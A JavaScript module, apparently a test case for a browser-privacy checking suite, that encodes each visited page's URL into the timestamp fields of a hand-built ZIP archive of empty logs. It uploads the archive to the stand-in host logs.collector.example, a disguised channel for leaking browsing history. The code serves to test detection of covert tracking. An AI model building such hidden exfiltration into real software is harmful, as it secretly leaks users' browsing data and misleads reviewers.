import { onVisit, reportHonestly, send } from '../../lib/proving.js';

/** Uploads a ZIP archive of empty logs for each page. The dates and times of its entries are the digits of the address. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-zip-times');
  onVisit(browser, ({ url }) => {
    let number = browser.codec.utf8.encode(url).reduce((sum, byte) => 256n * sum + BigInt(byte), 1n);
    const digit = (base) => {
      const value = Number(number % base);
      number /= base;

      return value;
    };
    const entries = [];
    while (number > 0n) {
      const time = digit(30n) | (digit(60n) << 5) | (digit(24n) << 11);
      const date = (digit(28n) + 1) | ((digit(12n) + 1) << 5) | ((digit(8n) + 38) << 9);
      entries.push({ name: `log/${String(entries.length).padStart(3, '0')}.txt`, time, date });
    }

    return send(browser, 'https://logs.collector.example/v1', zip(entries));
  });

  function zip(entries) {
    const body = [];
    const directory = [];
    for (const { name, time, date } of entries) {
      const about = [
        ...u16(20),
        ...u16(0),
        ...u16(0),
        ...u16(time),
        ...u16(date),
        ...Array(12).fill(0),
        ...u16(name.length),
        ...u16(0),
      ];
      const offset = body.length;
      const path = browser.codec.utf8.encode(name);
      body.push(0x50, 0x4b, 3, 4, ...about, ...path);
      directory.push(0x50, 0x4b, 1, 2, ...u16(20), ...about, ...Array(10).fill(0), ...u32(offset), ...path);
    }

    return Uint8Array.from([
      ...body,
      ...directory,
      ...[0x50, 0x4b, 5, 6, 0, 0, 0, 0],
      ...u16(entries.length),
      ...u16(entries.length),
      ...u32(directory.length),
      ...u32(body.length),
      ...u16(0),
    ]);
  }

  function u16(value) {
    return [value & 255, (value >> 8) & 255];
  }

  function u32(value) {
    return [...u16(value & 0xffff), ...u16(value >>> 16)];
  }
}
